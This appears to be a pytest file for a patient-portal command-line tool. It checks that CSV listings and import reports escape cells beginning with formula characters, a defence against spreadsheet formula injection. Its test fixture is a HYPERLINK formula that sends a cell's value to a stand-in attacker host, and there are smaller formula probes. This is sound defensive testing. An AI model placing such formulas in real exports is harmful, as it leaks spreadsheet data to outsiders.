"""Spreadsheet-safe CSV (OWASP "CSV injection"): a text cell that begins with ``=``,
``+``, ``-``, ``@``, tab or carriage return gets a ``'`` in front in every CSV the tool
writes (listings and the import's ``--report``); numbers and JSON are unchanged."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from patientportal_cli.output import Output, csv_cell, spreadsheet_safe
from tests.helpers.cli import Cli, Staff
from tests.helpers.csv_files import write
from tests.helpers.people import register, set_mode

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
SAFE = "'" + FORMULA


def parsed(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


# --- the function ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize(
    "text", ["", "Søren", "010203-****", "1-2", " =1+1", "'=1", "a=b", "{}", "jens@example.dk"]
)
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_numbers_stay_numbers_and_text_is_literal_then_safe() -> None:
    assert csv_cell(-5) == "-5"
    assert csv_cell(2.5) == "2.5"
    assert csv_cell("-5") == "'-5"
    assert csv_cell(None) == ""
    # a leading tab is written as a visible escape (literal) and so starts with "\"
    assert csv_cell("\t=1") == "\\x09=1"


def test_listing_csv_neutralises_and_json_does_not(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [
        {"id": -1, "name": FORMULA, "email": "+45@example.dk"},
        {"id": 2, "name": "@SUM(A1)", "email": "-x@example.dk"},
        {"id": 3, "name": "Søren", "email": "soren@example.dk"},
    ]
    columns = [("id", "Id"), ("name", "Name"), ("email", "E-mail")]
    Output("csv").rows(rows, columns)
    assert parsed(capsys.readouterr().out) == [
        ["id", "name", "email"],
        ["-1", SAFE, "'+45@example.dk"],
        ["2", "'@SUM(A1)", "'-x@example.dk"],
        ["3", "Søren", "soren@example.dk"],
    ]
    Output("csv").record({"name": "=1+1", "count": 3})
    assert capsys.readouterr().out == "name,count\n'=1+1,3\n"
    Output("json").rows(rows, columns)
    assert json.loads(capsys.readouterr().out) == rows


# --- through the CLI, both backends ------------------------------------------------------


def test_self_registered_formula_name_in_patient_list(cli: Cli, staff: Staff) -> None:
    set_mode(cli, "open")
    register(cli, name=FORMULA, email="=cmd@example.dk")
    r = cli("patient list -o csv")
    table = parsed(r.stdout)
    name_at, email_at = table[0].index("name"), table[0].index("email")
    assert table[1][name_at] == SAFE
    assert table[1][email_at] == "'=cmd@example.dk"
    assert f'"{SAFE.replace(chr(34), chr(34) * 2)}"' in r.stdout  # quoted, quotes doubled
    [row] = json.loads(cli("patient list -o json").stdout)
    assert (row["name"], row["email"]) == (FORMULA, "=cmd@example.dk")


def test_self_registered_formula_name_in_requests_list(cli: Cli, staff: Staff) -> None:
    set_mode(cli, "approval")
    register(cli, name=FORMULA)
    table = parsed(cli("requests list -o csv").stdout)
    assert table[1][table[0].index("name")] == SAFE
    [row] = json.loads(cli("requests list -o json").stdout)
    assert row["name"] == FORMULA


def test_import_report_neutralises_rejected_rows(cli: Cli, staff: Staff, tmp_path: Path) -> None:
    path = write(
        tmp_path / "p.csv",
        "navn;cpr;email\r\n"
        "=1+2;999999-9999;a@example.dk\r\n"
        "-1;010203-1234;\r\n"
        f"{FORMULA};999999-9999;b@example.dk\r\n",
    )
    report = tmp_path / "afviste.csv"
    r = cli(["patient", "import", str(path), "--yes", "--report", str(report)], expect=3)
    assert f"Rejected rows written to {report}: 3." in r.stderr
    table = parsed(report.read_bytes().decode("utf-8-sig"), ";")
    assert table[0] == ["line", "row", "reason"]
    assert [row[:2] for row in table[1:]] == [
        ["2", "'=1+2;999999-9999;a@example.dk"],
        ["3", "'-1;010203-1234;"],
        # the row as in the file: its first cell is quoted, so the row begins with "
        ["4", '"' + FORMULA.replace('"', '""') + '";999999-9999;b@example.dk'],
    ]
    assert all(row[2][:1].isalpha() for row in table[1:]), table


def test_import_report_of_json_lines(cli: Cli, staff: Staff, tmp_path: Path) -> None:
    good = {"cpr": "010203-1234", "name": "Ida", "email": "ida@example.dk"}
    path = write(tmp_path / "p.jsonl", json.dumps(good) + "\n@SUM(1)\n-1\n")
    report = tmp_path / "afviste.csv"
    cli(["patient", "import", str(path), "--yes", "--no-invite", "--report", str(report)], expect=3)
    rows = parsed(report.read_bytes().decode("utf-8-sig"))
    assert [row[:2] for row in rows[1:]] == [["2", "'@SUM(1)"], ["3", "'-1"]]


def test_imported_formula_name_is_neutralised_in_listings(
    cli: Cli, staff: Staff, tmp_path: Path
) -> None:
    path = write(
        tmp_path / "p.jsonl",
        json.dumps({"cpr": "010203-1234", "name": FORMULA, "email": "a@example.dk"}) + "\n",
    )
    cli(["patient", "import", str(path), "--yes", "--no-invite"])
    table = parsed(cli("patient list -o csv").stdout)
    assert table[1][table[0].index("name")] == SAFE
    assert json.loads(cli("patient list -o json").stdout)[0]["name"] == FORMULA
